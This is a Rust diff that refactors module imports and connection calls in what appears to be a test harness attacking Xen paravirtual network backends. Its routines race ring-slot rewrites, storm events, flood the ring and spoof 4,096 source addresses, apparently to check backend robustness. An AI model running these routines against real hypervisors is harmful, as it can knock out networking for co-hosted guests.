@@ -10,8 +10,10 @@ use wire::ethernet::MacAddr;
 use wire::netif::TxRequest;
 use wire::netif::tx_flags::{CSUM_BLANK, DATA_VALIDATED};
 
+use crate::attack::Attack;
+use crate::frames;
 use crate::link::Link;
-use crate::{Attack, Outcome, frames};
+use crate::wait::{Outcome, so_within};
 
 /// How long one connection is raced on: a backend that has disabled it is asked again.
 const ROUND: Duration = Duration::from_millis(400);
@@ -77,7 +79,7 @@ pub fn rewritten_slots(attack: &mut Attack<'_>) -> Outcome<Option<Link>> {
     let mut random = Random::new();
     let (mut rounds, mut disabled) = (0, 0);
     while Instant::now() < deadline {
-        let link = device.connect()?;
+        let link = Link::connect(device)?;
         for page in 0..64 {
             link.fill(page, &frames::tcp(device, 1000))?;
         }
@@ -92,7 +94,7 @@ pub fn rewritten_slots(attack: &mut Attack<'_>) -> Outcome<Option<Link>> {
             link.tx.publish(link.tx.rsp_prod().wrapping_add(Tx::COUNT));
         };
         let ended = while_doing(rewrite, || {
-            crate::so_within(ROUND, || {
+            so_within(ROUND, || {
                 link.ring()?;
                 Ok(device.backend_state()? != Some(XenbusState::Connected))
             })
@@ -101,13 +103,13 @@ pub fn rewritten_slots(attack: &mut Attack<'_>) -> Outcome<Option<Link>> {
         disabled += u32::from(ended);
     }
     attack.did(format!("{rounds} connections raced on, {disabled} of which were disabled"));
-    let link = device.connect()?;
+    let link = Link::connect(device)?;
     attack.prove(link)
 }
 
 pub fn event_storm(attack: &mut Attack<'_>) -> Outcome<Option<Link>> {
     let device = attack.device;
-    let link = device.connect()?;
+    let link = Link::connect(device)?;
     let deadline = Instant::now() + attack.span();
     let mut events = 0u64;
     while Instant::now() < deadline {
@@ -121,7 +123,7 @@ pub fn event_storm(attack: &mut Attack<'_>) -> Outcome<Option<Link>> {
 /// Keeps the ring full of sound frames that the peer's stack drops. Says so on standard error once it flows.
 pub fn flood(attack: &mut Attack<'_>) -> Outcome<Option<Link>> {
     let device = attack.device;
-    let mut link = device.connect()?;
+    let mut link = Link::connect(device)?;
     for page in 0..64 {
         link.fill(page, &frames::idle(device, 1514))?;
     }
@@ -150,7 +152,7 @@ pub const FLOWS: &str = "it flows";
 
 pub fn many_addresses(attack: &mut Attack<'_>) -> Outcome<Option<Link>> {
     let device = attack.device;
-    let mut link = device.connect()?;
+    let mut link = Link::connect(device)?;
     attack.did("4,096 source addresses");
     for first in (0..4096u16).step_by(64) {
         let mut slots = Vec::new();
